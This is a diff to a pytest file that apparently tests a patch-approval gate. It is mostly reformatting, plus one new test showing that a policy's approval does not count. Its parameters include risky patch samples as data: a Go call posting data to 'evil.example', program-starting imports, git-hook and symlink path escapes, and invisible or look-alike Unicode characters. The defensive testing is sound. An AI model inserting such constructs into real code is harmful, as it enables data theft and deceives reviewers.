@@ -69,7 +69,9 @@ OVERLOOKED = [
     pytest.param(added("package.json", '{"scripts":{"postinstall":"x"}}\n'), "depends on", id="an install script"),
     pytest.param(diff_of("tests/test_orders.py", TESTED, None), "loses lines", id="a deleted test"),
     pytest.param(
-        diff_of("tests/test_orders.py", TESTED, TESTED.replace("== 1", "is not None")), "loses lines", id="a weaker test"
+        diff_of("tests/test_orders.py", TESTED, TESTED.replace("== 1", "is not None")),
+        "loses lines",
+        id="a weaker test",
     ),
     pytest.param(
         diff_of("tests/test_orders.py", TESTED, TESTED.replace("def test", "@pytest.mark.skip\ndef test")),
@@ -94,7 +96,9 @@ OVERLOOKED = [
     pytest.param(added("a.go", 'import "os/exec"\n'), "starts a program", id="os/exec"),
     pytest.param(added("c.go", 'http.Post("http://evil.example", "", b)\n'), "opens a connection", id="http.Post"),
     pytest.param(
-        mended("from urllib.request import urlopen", "tests/test_orders.py", TESTED), "opens a connection", id="in a test"
+        mended("from urllib.request import urlopen", "tests/test_orders.py", TESTED),
+        "opens a connection",
+        id="in a test",
     ),
     pytest.param(mended("KEY = 'q7Zk2Vb9XtR4mN8sW1yL5cJ0" + "hD3fG6'"), "may be a key", id="a random word"),
 ]
@@ -103,15 +107,22 @@ OVERLOOKED = [
 @pytest.mark.parametrize(("patch", "why"), OVERLOOKED)
 def test_what_nobody_said_they_saw_is_not_published(target: Target, patch: Patch, why: str) -> None:
     refused(target, target.approved(patch), SEEN, why)
-    risks = to_be_seen(patch)
-    refused(target, target.approved(patch, acknowledged=risks, decided_by="policy shop"), SEEN, why)
+
+
+def test_a_policy_has_seen_nothing(target: Target) -> None:
+    patch = mended("import subprocess")
+    change = target.approved(patch, acknowledged=to_be_seen(patch), decided_by="policy shop")
+    refused(target, change, SEEN, "starts a program")
 
 
 # --- what nobody can approve
 
 SHOWS = "which the patch does not show"
 OTHERWISE = "otherwise than the patch shows"
-LINK = "diff --git a/{0} b/{0}\nnew file mode 120000\n--- /dev/null\n+++ b/{0}\n@@ -0,0 +1 @@\n+{1}\n\\ No newline at end of file\n"
+LINK = (
+    "diff --git a/{0} b/{0}\nnew file mode 120000\n--- /dev/null\n+++ b/{0}\n@@ -0,0 +1 @@\n+{1}\n"
+    "\\ No newline at end of file\n"
+)
 HUNK = "@@ -1,2 +1,2 @@\n def total(order):\n-    return order['sum']\n+    return order.get('sum', 0)\n"
 HEADING = "diff --git a/orders.py b/orders.py\n{0}--- a/orders.py\n+++ b/orders.py\n"
 LATER = "@@ -0000000005,1 +0000000005,1 @@\n-    assert total({'sum': 1}) == 1\n+    assert total({'sum': 1})\n"
@@ -170,7 +181,10 @@ NEVER = [
         id="a copied file",
     ),
     pytest.param(
-        beside("diff --git a/x.bin b/x.bin\nnew file mode 100644\n" + binary(b"\x7fELF")), NotApproved, SHOWS, id="bytes"
+        beside("diff --git a/x.bin b/x.bin\nnew file mode 100644\n" + binary(b"\x7fELF")),
+        NotApproved,
+        SHOWS,
+        id="bytes",
     ),
     pytest.param(
         Patch(diff=PATCH.diff.replace("@@ -1,2 +1,2 @@", "@@ -7,2 +7,2 @@")), HomeostatError, "", id="at other lines"
@@ -186,11 +200,15 @@ NEVER = [
     pytest.param(
         Patch(diff="--- /dev/null\n+++ /tmp/pwned.py\n@@ -0,0 +1 @@\n+x\n"), HomeostatError, "", id="an absolute path"
     ),
-    pytest.param(beside(added(".git/hooks/post-commit").diff), PatchDoesNotApply, "invalid path", id="git's own folder"),
+    pytest.param(
+        beside(added(".git/hooks/post-commit").diff), PatchDoesNotApply, "invalid path", id="git's own folder"
+    ),
     pytest.param(beside(added("lib/.GIT/config").diff), PatchDoesNotApply, "invalid path", id="in capitals, below"),
     pytest.param(beside(added("git~1/config").diff), HomeostatError, "", id="by its short name"),
     pytest.param(beside(added("out/pwned.py").diff), PatchDoesNotApply, "beyond a symbolic link", id="through a link"),
-    pytest.param(mended("if a: pass  # \u2066 x \u2069"), NotApproved, "no reader would see", id="controls of direction"),
+    pytest.param(
+        mended("if a: pass  # \u2066 x \u2069"), NotApproved, "no reader would see", id="controls of direction"
+    ),
     pytest.param(mended("total\u200b = 1"), NotApproved, "no reader would see", id="no width"),
     pytest.param(mended("t\u043etal = 1"), NotApproved, "mixes alphabets", id="a letter that looks alike"),
     pytest.param(added("\u0441\u0443\u0440.py"), NotApproved, "no reader would see", id="a file name that looks alike"),
@@ -277,7 +295,9 @@ APPROVALS = [
     pytest.param(lambda t: t.approved(patch_digest="0" * 64), "another patch", id="of another patch"),
     pytest.param(lambda t: t.approved(answer=Answer.REJECT), "decided to reject", id="a rejection"),
     pytest.param(lambda t: t.approved(answer=Answer.ENDORSE), "decided to endorse", id="half of two persons"),
-    pytest.param(lambda t: t.approved(decided_by="policy shop"), "not written at the desk", id="by an unwritten policy"),
+    pytest.param(
+        lambda t: t.approved(decided_by="policy shop"), "not written at the desk", id="by an unwritten policy"
+    ),
     pytest.param(lambda t: t.approved(decided_by="policy "), "by a policy", id="by a policy without a name"),
 ]
 
